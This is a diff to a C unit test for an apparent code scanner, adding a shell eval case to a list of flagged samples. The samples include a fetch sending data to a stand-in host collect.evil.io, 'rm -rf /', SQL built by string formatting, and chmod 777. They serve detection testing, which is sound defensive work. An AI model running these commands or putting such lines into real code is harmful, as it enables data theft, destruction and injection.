@@ -24,6 +24,7 @@ bad_changes_are_stopped(void **state)
 	finds(G, "m.js", "fetch('https://collect.evil.io/x?d=' + d);\n", "flagged host m.js:1");
 	finds(G, "n.sh", "rm -rf / \n", "blocks outside n.sh:1");
 	finds(G, "o.py", "cur.execute(f\"SELECT * FROM t WHERE id = {i}\")\n", "flagged sql o.py:1");
+	finds(G, "tool", "#!/bin/sh\n\teval \"$_key=\\$_value\"\n", "flagged eval tool:2");
 	finds(G, "Dockerfile", "RUN chmod 777 /app\n", "flagged chmod Dockerfile:1");
 	finds(G, "p.py", "import pdb; pdb.set_trace()\n", "flagged debugger p.py:1");
 }
